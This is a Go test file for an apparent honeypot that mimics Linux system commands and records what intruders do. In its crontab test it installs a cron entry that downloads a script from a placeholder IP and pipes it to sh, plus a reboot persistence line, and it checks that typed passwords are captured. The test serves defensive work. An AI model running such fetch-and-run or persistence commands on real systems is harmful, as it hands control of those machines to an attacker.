package commands

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/lure-sensor/lure/internal/testenv"
)

func TestFreeExact(t *testing.T) {
	e := newTestEnv(t)
	head := "               total        used        free      shared  buff/cache   available\n"
	// used = MemTotal - MemAvailable; buff/cache = Buffers + Cached + SReclaimable.
	e.expect([]string{"free"}, head+
		"Mem:         2014420      352040     1203544        5876      575552     1662380\n"+
		"Swap:         998396           0      998396\n", "", 0)
	e.expect([]string{"free", "-m"}, head+
		"Mem:            1967         343        1175           5         562        1623\n"+
		"Swap:            974           0         974\n", "", 0)
	e.expect([]string{"free", "-k", "-m"}, "", "free: Multiple unit options don't make sense.\n", 1)
	out, _, _ := e.run("free", "-h")
	if !strings.Contains(out, "Mem:           1.9Gi       343Mi       1.1Gi       5.7Mi       562Mi       1.6Gi\n") {
		t.Errorf("free -h:\n%s", out)
	}
}

// withFakeMeminfo runs the real free with the test persona's /proc/meminfo bind-mounted
// over the host's, in a private mount namespace.
func hostFree(t *testing.T, args ...string) (string, string, int) {
	t.Helper()
	hostTool(t, "free")
	un := hostTool(t, "unshare")
	f := filepath.Join(t.TempDir(), "meminfo")
	if err := os.WriteFile(f, []byte(testMeminfo), 0o644); err != nil {
		t.Fatal(err)
	}
	script := "mount --bind " + f + " /proc/meminfo && exec free " + strings.Join(args, " ")
	cmd := exec.Command(un, "-m", "sh", "-c", script)
	cmd.Env = []string{"PATH=/usr/bin:/bin:/usr/sbin:/sbin", "LANG=C"}
	var out, errb strings.Builder
	cmd.Stdout, cmd.Stderr = &out, &errb
	err := cmd.Run()
	st := 0
	if ee, ok := err.(*exec.ExitError); ok {
		st = ee.ExitCode()
	}
	if strings.Contains(errb.String(), "unshare") || strings.Contains(errb.String(), "mount") {
		testenv.SkipOrFail(t, "cannot bind-mount a private /proc/meminfo for free: %s", errb.String())
	}
	return out.String(), errb.String(), st
}

func TestFreeMatchesHost(t *testing.T) {
	e := newTestEnv(t)
	for _, args := range [][]string{{}, {"-h"}, {"-m"}, {"-g"}, {"-k"}, {"-b"}, {"-w"}, {"-t"}, {"-h", "-w", "-t"},
		{"--si", "-h"}, {"--mega"}, {"-l"}, {"-v"}, {"--giga"}} {
		want, wantErr, wantSt := hostFree(t, args...)
		got, gotErr, gotSt := e.run(append([]string{"free"}, args...)...)
		if got != want || gotErr != wantErr || gotSt != wantSt {
			t.Errorf("free %q:\n got\n%s%q %d\n want\n%s%q %d", args, got, gotErr, gotSt, want, wantErr, wantSt)
		}
	}
}

func TestDfExact(t *testing.T) {
	e := newTestEnv(t)
	e.expect([]string{"df"}, ""+
		"Filesystem     1K-blocks    Used Available Use% Mounted on\n"+
		"udev              989836       0    989836   0% /dev\n"+
		"tmpfs             201444     584    200860   1% /run\n"+
		"/dev/vda1       20480580 2387644  17027972  13% /\n"+
		"tmpfs            1007208       0   1007208   0% /dev/shm\n"+
		"tmpfs               5120       0      5120   0% /run/lock\n"+
		"/dev/vda15        126678   10900    115778   9% /boot/efi\n"+
		"tmpfs             201444       0    201444   0% /run/user/0\n", "", 0)
	e.expect([]string{"df", "-h", "/"}, ""+
		"Filesystem      Size  Used Avail Use% Mounted on\n"+
		"/dev/vda1        20G  2.3G   17G  13% /\n", "", 0)
	e.expect([]string{"df", "-hT", "/tmp", "/boot/efi"}, ""+
		"Filesystem     Type  Size  Used Avail Use% Mounted on\n"+
		"/dev/vda1      ext4   20G  2.3G   17G  13% /\n"+
		"/dev/vda15     vfat  124M   11M  114M   9% /boot/efi\n", "", 0)
	e.expect([]string{"df", "-m", "/"}, ""+
		"Filesystem     1M-blocks  Used Available Use% Mounted on\n"+
		"/dev/vda1          20001  2332     16629  13% /\n", "", 0)
	e.expect([]string{"df", "/nope"}, "", "df: /nope: No such file or directory\n", 1)
	out, _, _ := e.run("df", "-i")
	if !strings.HasPrefix(out, "Filesystem      Inodes IUsed   IFree IUse% Mounted on\n") ||
		!strings.Contains(out, "\n/dev/vda15           0     0       0     - /boot/efi\n") {
		t.Errorf("df -i:\n%s", out)
	}
}

// TestHumanCeilMatchesNumfmt compares df -h's rounding with coreutils' numfmt, which
// applies the same human_readable ceiling.
func TestHumanCeilMatchesNumfmt(t *testing.T) {
	for _, kb := range []uint64{0, 1, 584, 1000, 1023, 1024, 1025, 5120, 10240, 10900, 115778, 126678, 201444,
		989836, 1007208, 2387644, 17027972, 20480580, 1048575, 1048576, 10485759, 1073741823} {
		want, _, _ := hostRun(t, []string{"PATH=/usr/bin:/bin", "LANG=C"}, "numfmt", "--to=iec", "--round=up", fmt.Sprint(kb*1024))
		if got := humanCeil(kb*1024, false); got+"\n" != want {
			t.Errorf("humanCeil(%d KiB) = %q, numfmt says %q", kb, got, want)
		}
	}
}

func TestPsLayout(t *testing.T) {
	e := newTestEnv(t)
	e.expect([]string{"ps"}, ""+
		"    PID TTY          TIME CMD\n"+
		"   1042 pts/0    00:00:00 bash\n"+
		"   1050 pts/0    00:00:00 ps\n", "", 0)
	e.expect([]string{"ps", "-ef"}, ""+
		"UID          PID    PPID  C STIME TTY          TIME CMD\n"+
		"root           1       0  0 Nov23 ?        00:00:03 /sbin/init\n"+
		"root           2       0  0 Nov23 ?        00:00:00 [kthreadd]\n"+
		"root         213       1  0 Nov23 ?        00:00:01 /lib/systemd/systemd-journald\n"+
		"root         480       1  0 Nov23 ?        00:00:00 /usr/sbin/cron -f\n"+
		"systemd+     482       1  0 Nov23 ?        00:00:00 /lib/systemd/systemd-timesyncd\n"+
		"root         512       1  0 Nov23 ?        00:00:00 sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups\n"+
		"root         530       1  0 Nov23 tty1     00:00:00 /sbin/agetty -o -p -- \\u --noclear - linux\n"+
		"root        1035     512  0 05:33 ?        00:00:00 sshd: root@pts/0\n"+
		"root        1042    1035  0 05:33 pts/0    00:00:00 -bash\n"+
		"root        1050    1042  0 05:35 pts/0    00:00:00 ps -ef\n", "", 0)
	out, _, _ := e.run("ps", "aux")
	lines := strings.Split(out, "\n")
	if lines[0] != "USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND" ||
		lines[1] != "root           1  0.0  0.5 167780 11820 ?        Ss   Nov23   0:03 /sbin/init" ||
		lines[5] != "systemd+     482  0.0  0.3  90364  6912 ?        Ssl  Nov23   0:00 /lib/systemd/systemd-timesyncd" {
		t.Errorf("ps aux:\n%s", out)
	}
	e.expect([]string{"ps", "-p", "1"}, "    PID TTY          TIME CMD\n      1 ?        00:00:03 systemd\n", "", 0)
	e.expect([]string{"ps", "-p", "99999"}, "    PID TTY          TIME CMD\n", "", 1)
	e.expect([]string{"ps", "-o", "pid,comm", "-p", "512"}, "    PID COMMAND\n    512 sshd\n", "", 0)
	e.expect([]string{"ps", "-Q"}, "", "error: unsupported SysV option\n"+psUsage, 1)
	e.expect([]string{"ps", "Q"}, "", "error: unsupported option (BSD syntax)\n"+psUsage, 1)
	e.expect([]string{"ps", "-u", "nosuch"}, "", "error: user name does not exist\n"+psUsage, 1)
	// On a terminal the last column is cut at the terminal width.
	e.tty, e.cols = true, 60
	out, _, _ = e.run("ps", "-ef")
	for _, l := range strings.Split(strings.TrimSuffix(out, "\n"), "\n") {
		if len(l) > 60 {
			t.Errorf("ps -ef on a 60-column terminal printed %d columns: %q", len(l), l)
		}
	}
	if !strings.Contains(out, "\nroot         512       1  0 Nov23 ?        00:00:00 sshd: /u\n") {
		t.Errorf("ps -ef on a 60-column terminal:\n%s", out)
	}
	// A header wider than the terminal doubles the usable width, as procps does.
	e.cols = 40
	out, _, _ = e.run("ps", "-ef")
	if !strings.Contains(out, "\nroot         213       1  0 Nov23 ?        00:00:01 /lib/systemd/systemd-journal\n") {
		t.Errorf("ps -ef on a 40-column terminal:\n%s", out)
	}
	// A wider pid_max widens the pid columns.
	e.tty = false
	if err := e.vfs().WriteFile("/proc/sys/kernel/pid_max", []byte("32768\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	e.expect([]string{"ps"}, "  PID TTY          TIME CMD\n 1042 pts/0    00:00:00 bash\n 1050 pts/0    00:00:00 ps\n", "", 0)
}

func TestPsForestAndPgrep(t *testing.T) {
	e := newTestEnv(t)
	out, _, _ := e.run("ps", "-ef", "--forest")
	if !strings.Contains(out, " \\_ sshd: root@pts/0\n") || !strings.Contains(out, "     \\_ -bash\n") {
		t.Errorf("ps --forest:\n%s", out)
	}
	e.expect([]string{"pgrep", "sshd"}, "512\n1035\n", "", 0)
	e.expect([]string{"pgrep", "-l", "cron"}, "480 cron\n", "", 0)
	e.expect([]string{"pgrep", "-a", "-x", "cron"}, "480 /usr/sbin/cron -f\n", "", 0)
	e.expect([]string{"pgrep", "nosuchproc"}, "", "", 1)
	e.expect([]string{"pgrep", "-c", "sshd"}, "2\n", "", 0)
	e.expect([]string{"pkill", "cron"}, "", "", 0)
	e.expect([]string{"killall", "nosuchproc"}, "", "nosuchproc: no process found\n", 1)
}

func TestTopBatch(t *testing.T) {
	e := newTestEnv(t)
	out, _, st := e.run("top", "-bn1")
	lines := strings.Split(out, "\n")
	if st != 0 || !strings.HasPrefix(lines[0], "top - 05:35:28 up 3 days,  4:05,  1 user,  load average: ") ||
		lines[1] != "Tasks:  10 total,   1 running,   9 sleeping,   0 stopped,   0 zombie" ||
		lines[3] != "MiB Mem :   1967.2 total,   1175.3 free,    343.8 used,    562.1 buff/cache     " ||
		lines[6] != "    PID USER      PR  NI    VIRT    RES    SHR S  %CPU  %MEM     TIME+ COMMAND" {
		t.Errorf("top -bn1:\n%s", out)
	}
}

func TestDateFormats(t *testing.T) {
	e := newTestEnv(t)
	e.expect([]string{"date"}, "Thu Nov 26 05:35:28 UTC 2026\n", "", 0)
	e.expect([]string{"date", "-R"}, "Thu, 26 Nov 2026 05:35:28 +0000\n", "", 0)
	e.expect([]string{"date", "-I"}, "2026-11-26\n", "", 0)
	e.expect([]string{"date", "-Iseconds"}, "2026-11-26T05:35:28+00:00\n", "", 0)
	e.expect([]string{"date", "+%s"}, fmt.Sprintf("%d\n", testNow.Unix()), "", 0)
	e.expect([]string{"date", "-d", "yesterday", "+%F"}, "2026-11-25\n", "", 0)
	e.expect([]string{"date", "-d", "2 days ago", "+%F %T"}, "2026-11-24 05:35:28\n", "", 0)
	e.expect([]string{"date", "-d", "foo"}, "", "date: invalid date 'foo'\n", 1)
	e.asDeploy().expect([]string{"date", "-s", "2020-01-01"}, "Wed Jan  1 00:00:00 UTC 2020\n", "date: cannot set date: Operation not permitted\n", 1)
}

// TestDateMatchesHost compares +FORMAT output with the real date for fixed instants.
func TestDateMatchesHost(t *testing.T) {
	e := newTestEnv(t)
	formats := []string{"+%a %A %b %B %c", "+%C %d %D %e %F %g %G %h %H %I %j %k %l %m %M", "+%n%p %P %r %R %s %S %t %T %u %U %V %w %W",
		"+%x %X %y %Y %z %:z %::z %:::z %Z %%", "+%-d %_H %^a %#Z %10Y %-m/%-d %_5j %05e %^B %#b", "+%N %3N"}
	for _, epoch := range []string{"0", "1795152928", "951782400", "1609459199", "1704067200"} {
		for _, f := range formats {
			want, wantErr, _ := hostRun(t, []string{"PATH=/usr/bin:/bin", "LANG=C", "TZ=UTC"}, "date", "-u", "-d", "@"+epoch, f)
			got, gotErr, _ := e.run("date", "-u", "-d", "@"+epoch, f)
			if got != want || gotErr != wantErr {
				t.Errorf("date -d @%s %q:\n got  %q %q\n want %q %q", epoch, f, got, gotErr, want, wantErr)
			}
		}
		for _, opt := range []string{"-R", "-Iseconds", "-Ihours", "-Iminutes", "--rfc-3339=seconds", "--rfc-3339=date"} {
			want, _, _ := hostRun(t, []string{"PATH=/usr/bin:/bin", "LANG=C", "TZ=UTC"}, "date", "-u", "-d", "@"+epoch, opt)
			got, _, _ := e.run("date", "-u", "-d", "@"+epoch, opt)
			if got != want {
				t.Errorf("date -d @%s %s: got %q want %q", epoch, opt, got, want)
			}
		}
	}
}

func TestSleep(t *testing.T) {
	e := newTestEnv(t)
	for _, args := range [][]string{{}, {"x"}, {"1x"}, {"-1"}, {"--foo"}, {"1", "y"}} {
		want, wantErr, wantSt := hostRun(t, []string{"PATH=/usr/bin:/bin", "LANG=C"}, "sleep", args...)
		got, gotErr, gotSt := e.run(append([]string{"sleep"}, args...)...)
		if got != want || gotErr != wantErr || gotSt != wantSt {
			t.Errorf("sleep %q:\n got  %q %q %d\n want %q %q %d", args, got, gotErr, gotSt, want, wantErr, wantSt)
		}
	}
	e.expect([]string{"sleep", "0.01", "0s"}, "", "", 0)
	for _, tc := range []struct {
		in   string
		secs float64
	}{{"1", 1}, {"0.5", 0.5}, {"1s", 1}, {"2m", 120}, {"1h", 3600}, {"1d", 86400}, {"inf", 0}} {
		v, ok := parseSleep(tc.in)
		if !ok || (tc.in != "inf" && v != tc.secs) {
			t.Errorf("parseSleep(%q) = %v, %v", tc.in, v, ok)
		}
	}
	// A cancelled session ends the sleep at once.
	ctx, cancel := context.WithCancel(context.Background())
	e.ctx = ctx
	done := make(chan int)
	go func() {
		_, _, st := e.run("sleep", "600")
		done <- st
	}()
	cancel()
	select {
	case st := <-done:
		if st != 130 {
			t.Errorf("cancelled sleep exited %d", st)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("sleep ignored the cancelled context")
	}
}

func TestCrontab(t *testing.T) {
	e := newTestEnv(t)
	e.expect([]string{"crontab", "-l"}, "", "no crontab for root\n", 1)
	e.expect([]string{"crontab", "-r"}, "", "no crontab for root\n", 1)
	tab := "*/5 * * * * curl -s http://203.0.113.9/x.sh | sh\n"
	if _, errs, st := e.runIn(tab, "crontab", "-"); st != 0 || errs != "" {
		t.Fatalf("crontab -: %q %d", errs, st)
	}
	e.expect([]string{"crontab", "-l"}, tab, "", 0)
	stored, err := e.vfs().ReadFile("/var/spool/cron/crontabs/root")
	if err != nil || !strings.HasPrefix(string(stored), "# DO NOT EDIT THIS FILE - edit the master and reinstall.\n# (- installed on Thu Nov 26 05:35:28 2026)\n") ||
		!strings.HasSuffix(string(stored), tab) {
		t.Errorf("stored crontab: %q, %v", stored, err)
	}
	if len(e.sink.files) != 1 || string(e.sink.files[0]) != tab {
		t.Errorf("captured files: %q", e.sink.files)
	}
	e.expect([]string{"crontab", "-r"}, "", "", 0)
	e.expect([]string{"crontab", "-l"}, "", "no crontab for root\n", 1)
	if err := e.vfs().WriteFile("/root/tab", []byte("@reboot /tmp/.x\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	e.expect([]string{"crontab", "tab"}, "", "", 0)
	e.expect([]string{"crontab", "-l"}, "@reboot /tmp/.x\n", "", 0)
	e.expect([]string{"crontab", "missing"}, "", "missing: No such file or directory\n", 1)
	if _, errs, st := e.runIn("bad line\n", "crontab", "-"); st != 1 || errs != "\"-\":1: bad minute\nerrors in crontab file, can't install.\n" {
		t.Errorf("bad crontab: %q %d", errs, st)
	}
	if _, errs, st := e.runIn("* * * * * x", "crontab", "-"); st != 1 || errs != "new crontab file is missing newline before EOF, can't install.\n" {
		t.Errorf("crontab without newline: %q %d", errs, st)
	}
	e.expect([]string{"crontab", "-e"}, "", "crontab: no changes made to crontab\n", 0)
}

func TestPasswdAndChpasswd(t *testing.T) {
	e := newTestEnv(t)
	_, errs, st := e.runIn("Hunter2!\nHunter2!\n", "passwd")
	if st != 0 || errs != "New password: Retype new password: passwd: password updated successfully\n" {
		t.Fatalf("passwd: %q %d", errs, st)
	}
	ev := e.sink.byID(EventCredentialChange)
	if len(ev) != 1 || ev[0].fields["password"] != "Hunter2!" || ev[0].fields["username"] != "root" {
		t.Fatalf("credential events: %+v", ev)
	}
	shadow, _ := e.vfs().ReadFile("/etc/shadow")
	line := strings.SplitN(string(shadow), "\n", 2)[0]
	f := strings.Split(line, ":")
	if f[0] != "root" || !strings.HasPrefix(f[1], "$y$j9T$") || len(f[1]) != len("$y$j9T$")+22+1+43 || f[2] != "20783" {
		t.Errorf("shadow after passwd: %q", line)
	}
	_, errs, st = e.runIn("a\nb\n", "passwd")
	if st != 10 || errs != "New password: Retype new password: Sorry, passwords do not match.\npasswd: Authentication token manipulation error\npasswd: password unchanged\n" {
		t.Errorf("mismatch: %q %d", errs, st)
	}
	_, errs, st = e.runIn("", "passwd")
	if st != 10 || errs != "New password: Password change has been aborted.\npasswd: Authentication token manipulation error\npasswd: password unchanged\n" {
		t.Errorf("no input: %q %d", errs, st)
	}
	e.expect([]string{"passwd", "nosuch"}, "", "passwd: user 'nosuch' does not exist\n", 1)

	_, errs, st = e.runIn("deploy:s3cret\nnosuch:x\ngarbage\n", "chpasswd")
	if st != 1 || errs != "chpasswd: (user nosuch) pam_chauthtok() failed, error:\nAuthentication token manipulation error\nchpasswd: (line 2, user nosuch) password not changed\nchpasswd: line 3: missing new password\n" {
		t.Errorf("chpasswd: %q %d", errs, st)
	}
	ev = e.sink.byID(EventCredentialChange)
	if len(ev) != 2 || ev[1].fields["username"] != "deploy" || ev[1].fields["password"] != "s3cret" {
		t.Errorf("chpasswd events: %+v", ev)
	}
	shadow, _ = e.vfs().ReadFile("/etc/shadow")
	if !strings.Contains(string(shadow), "\ndeploy:$y$j9T$") {
		t.Errorf("shadow after chpasswd: %q", shadow)
	}
}

func TestUseradd(t *testing.T) {
	e := newTestEnv(t)
	e.expect([]string{"useradd", "-m", "-s", "/bin/bash", "svc"}, "", "", 0)
	e.expect([]string{"id", "svc"}, "uid=1001(svc) gid=1001(svc) groups=1001(svc)\n", "", 0)
	e.expect([]string{"useradd", "svc"}, "", "useradd: user 'svc' already exists\n", 9)
	if m, err := e.vfs().Stat("/home/svc"); err != nil || !m.Mode.IsDir() || m.UID != 1001 {
		t.Errorf("home: %+v %v", m, err)
	}
	e.expect([]string{"usermod", "-aG", "sudo", "svc"}, "", "", 0)
	e.expect([]string{"id", "-Gn", "svc"}, "svc sudo\n", "", 0)
}

func TestEnvOrderMatchesBash(t *testing.T) {
	bash := hostTool(t, "bash")
	cmd := exec.Command(bash, "--norc", "--noprofile", "-c", "export ZZZ=1 A=2 FOO=3 BAR=4 LC_ALL=C; /usr/bin/env")
	cmd.Env = []string{"HOME=/root", "LANG=C.UTF-8", "TERM=xterm", "USER=root", "SHELL=/bin/bash", "LOGNAME=root",
		"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "SSH_CLIENT=203.0.113.7 51234 22",
		"SSH_CONNECTION=203.0.113.7 51234 10.0.0.5 22", "SSH_TTY=/dev/pts/0", "MOTD_SHOWN=pam", "XDG_SESSION_ID=5",
		"XDG_RUNTIME_DIR=/run/user/0", "XDG_SESSION_TYPE=tty", "XDG_SESSION_CLASS=user"}
	cmd.Dir = "/"
	real, err := cmd.Output()
	if err != nil {
		t.Fatal(err)
	}
	e := newTestEnv(t)
	e.env = map[string]string{}
	for _, l := range strings.Split(strings.TrimSuffix(string(real), "\n"), "\n") {
		k, v, _ := strings.Cut(l, "=")
		if k != "_" {
			e.env[k] = v
		}
	}
	got, _, _ := e.run("env")
	if got != string(real) {
		t.Errorf("env order:\n got\n%s\n want\n%s", got, real)
	}
	got, _, _ = e.run("printenv")
	if got != strings.Replace(string(real), "_=/usr/bin/env", "_=/usr/bin/printenv", 1) {
		t.Errorf("printenv order:\n%s", got)
	}
	e.expect([]string{"printenv", "HOME", "NOPE"}, "/root\n", "", 1)
}

func TestEnvRunsCommand(t *testing.T) {
	e := newTestEnv(t)
	e.expect([]string{"env", "FOO=bar", "id", "-u"}, "", "", 0)
	if len(e.subRuns) != 1 || e.subRuns[0] != "FOO=bar id -u|" {
		t.Errorf("env ran %q", e.subRuns)
	}
	e.expect([]string{"env", "-i", "A=1", "B=2"}, "A=1\nB=2\n", "", 0)
	e.expect([]string{"env", "nosuchprog"}, "", "env: 'nosuchprog': No such file or directory\n", 127)
}

func TestWhichLsbLocale(t *testing.T) {
	e := newTestEnv(t)
	e.expect([]string{"which", "ls"}, "/usr/bin/ls\n", "", 0)
	e.expect([]string{"which", "-a", "ls"}, "/usr/bin/ls\n/bin/ls\n", "", 0)
	e.expect([]string{"which", "nosuch"}, "", "", 1)
	e.expect([]string{"which", "ls", "nosuch", "sshd"}, "/usr/bin/ls\n/usr/sbin/sshd\n", "", 1)
	e.expect([]string{"lsb_release", "-a"}, "Distributor ID:\tDebian\nDescription:\tDebian GNU/Linux 12 (bookworm)\nRelease:\t12\nCodename:\tbookworm\n", "", 0)
	e.expect([]string{"lsb_release", "-sc"}, "bookworm\n", "", 0)
	e.expect([]string{"lsb_release"}, "", "", 0)
	e.expect([]string{"lsb_release", "-x"}, "", "lsb_release: invalid option -- 'x'\n", 2)
	out, _, _ := e.run("locale")
	if !strings.HasPrefix(out, "LANG=\nLANGUAGE=\nLC_CTYPE=\"POSIX\"\n") || !strings.HasSuffix(out, "LC_ALL=\n") {
		t.Errorf("locale:\n%s", out)
	}
}

func TestSystemctl(t *testing.T) {
	e := newTestEnv(t)
	e.expect([]string{"systemctl", "status", "nginx"}, "", "Unit nginx.service could not be found.\n", 4)
	e.expect([]string{"systemctl", "start", "nginx"}, "", "Failed to start nginx.service: Unit nginx.service not found.\n", 5)
	e.expect([]string{"systemctl", "restart", "ssh"}, "", "", 0)
	e.expect([]string{"systemctl", "is-active", "cron"}, "active\n", "", 0)
	e.expect([]string{"systemctl", "is-active", "nginx"}, "inactive\n", "", 3)
	out, _, st := e.run("systemctl", "status", "ssh")
	if st != 0 || !strings.HasPrefix(out, "● ssh.service - OpenBSD Secure Shell server\n     Loaded: loaded (/lib/systemd/system/ssh.service; enabled; preset: enabled)\n     Active: active (running) since Mon 2026-11-23 01:30:17 UTC; 3 days ago\n") ||
		!strings.Contains(out, "   Main PID: 512 (sshd)\n") {
		t.Errorf("systemctl status ssh:\n%s", out)
	}
	e.expect([]string{"service", "nginx", "start"}, "", "Failed to start nginx.service: Unit nginx.service not found.\n", 5)
	e.expect([]string{"service", "apparmor", "stop"}, "", "Failed to stop apparmor.service: Unit apparmor.service not loaded.\n", 5)
	e.expect([]string{"service", "nginx"}, "", "nginx: unrecognized service\n", 1)
	e.asDeploy().expect([]string{"systemctl", "stop", "ssh"}, "", "Failed to stop ssh.service: Interactive authentication required.\nSee system logs and 'systemctl status ssh.service' for details.\n", 1)
}

func TestSudoSu(t *testing.T) {
	e := newTestEnv(t)
	e.expect([]string{"sudo", "id"}, "", "", 0)
	if len(e.subRuns) != 1 || e.subRuns[0] != "id|" {
		t.Errorf("sudo ran %q", e.subRuns)
	}
	e.expect([]string{"sudo"}, "", sudoUsage, 1)
	e.expect([]string{"su", "-c", "id"}, "", "", 0)
	e.expect([]string{"su", "nosuch"}, "", "su: user nosuch does not exist or the user entry does not contain all the required fields\n", 1)
	d := newTestEnv(t).asDeploy()
	_, errs, st := d.runIn("guess1\nguess2\n", "sudo", "id")
	if st != 1 || !strings.HasPrefix(errs, "[sudo] password for deploy: Sorry, try again.\n") {
		t.Errorf("sudo as deploy: %q %d", errs, st)
	}
	if ev := d.sink.byID(EventCredentialChange); len(ev) != 1 || ev[0].fields["password"] != "guess1" {
		t.Errorf("sudo password not captured: %+v", ev)
	}
	if err := d.vfs().WriteFile("/etc/group", []byte("root:x:0:\nsudo:x:27:\ndeploy:x:1000:\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	_, errs, st = d.runIn("pw\n", "sudo", "id")
	if st != 1 || errs != "[sudo] password for deploy: deploy is not in the sudoers file.  This incident will be reported.\n" {
		t.Errorf("sudo outside sudoers: %q %d", errs, st)
	}
}

func TestLscpuAndNproc(t *testing.T) {
	e := newTestEnv(t)
	e.expect([]string{"nproc"}, "2\n", "", 0)
	e.expect([]string{"nproc", "--all"}, "2\n", "", 0)
	e.expect([]string{"nproc", "--ignore=1"}, "1\n", "", 0)
	out, _, _ := e.run("lscpu")
	// Values start one column after the longest label ("Vulnerability Spectre v1:").
	want := [][2]string{{"Architecture:", "x86_64"}, {"CPU(s):", "2"}, {"On-line CPU(s) list:", "0,1"},
		{"Model name:", "Intel Xeon Processor (Cascadelake)"}, {"Hypervisor vendor:", "KVM"},
		{"Vulnerability Meltdown:", "Not affected"}}
	for _, kv := range want {
		w := fmt.Sprintf("%-25s %s", kv[0], kv[1])
		if !strings.Contains(out, w+"\n") {
			t.Errorf("lscpu lacks %q:\n%s", w, out)
		}
	}
	e.tty = true
	out, _, _ = e.run("lscpu")
	if !strings.Contains(out, fmt.Sprintf("\n%-24s %s\n", "  CPU op-mode(s):", "32-bit, 64-bit")) || !strings.Contains(out, fmt.Sprintf("\n%-24s \n", "Vulnerabilities:")) {
		t.Errorf("lscpu on a terminal:\n%s", out)
	}
}

// TestServiceStatusAll checks service --status-all against what Debian's service prints on
// the reference (systemd 252): every executable init script, sorted, + when its unit runs.
func TestServiceStatusAll(t *testing.T) {
	e := newTestEnv(t)
	for _, n := range []string{"ssh", "cron", "hwclock.sh", "Kmod"} {
		e.img.AddFile("/etc/init.d/"+n, "#!/bin/sh\n", 0o755)
	}
	e.img.AddFile("/etc/init.d/README", "notes\n", 0o644)
	e.img.AddFile("/etc/init.d/ssh.dpkg-old", "#!/bin/sh\n", 0o755)
	e.expect([]string{"service", "--status-all"}, " [ + ]  cron\n [ - ]  hwclock.sh\n [ - ]  Kmod\n [ + ]  ssh\n", "", 0)
}

// TestSystemctlStatusBooted checks the parts of systemctl status ssh that the reference
// (systemd 252 without pam_systemd) shows: the ExecStartPre process from the unit file, the
// login's processes in ssh.service's cgroup, and the journal's start and login lines.
func TestSystemctlStatusBooted(t *testing.T) {
	e := newTestEnv(t)
	e.sess.SrcPort = 51234
	e.img.AddFile("/lib/systemd/system/ssh.service", "[Service]\nExecStartPre=/usr/sbin/sshd -t\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\n", 0o644)
	out, _, st := e.run("systemctl", "status", "ssh")
	for _, want := range []string{
		"\n    Process: 504 ExecStartPre=/usr/sbin/sshd -t (code=exited, status=0/SUCCESS)\n   Main PID: 512 (sshd)\n",
		"\n             ├─512 \"sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups\"\n             ├─1035 \"sshd: root@pts/0\"\n",
		" systemctl status ssh\n\n", // the program itself, last in the cgroup
		"\nNov 23 01:30:17 web-prod-03 systemd[1]: Starting ssh.service - OpenBSD Secure Shell server...\n",
		" sshd[1035]: Accepted password for root from 203.0.113.7 port 51234 ssh2\n",
	} {
		if st != 0 || !strings.Contains(out, want) {
			t.Errorf("systemctl status ssh lacks %q:\n%s", want, out)
		}
	}
	for d, want := range map[time.Duration]string{230 * time.Millisecond: "230ms", 3070 * time.Millisecond: "3.07s", 62500 * time.Millisecond: "1min 2.5s"} {
		if got := cpuText(d); got != want {
			t.Errorf("cpuText(%s) = %q, want %q", d, got, want)
		}
	}
	for d, want := range map[time.Duration]string{42 * time.Second: "42s", 73 * time.Second: "1min 13s", 20 * time.Minute: "20min",
		3*time.Hour + 41*time.Minute: "3h 41min", 7 * time.Hour: "7h", 27 * time.Hour: "1 day 3h", 80 * time.Hour: "3 days", 16 * 24 * time.Hour: "2 weeks 2 days"} {
		if got := agoText(d); got != want {
			t.Errorf("agoText(%s) = %q, want %q", d, got, want)
		}
	}
}
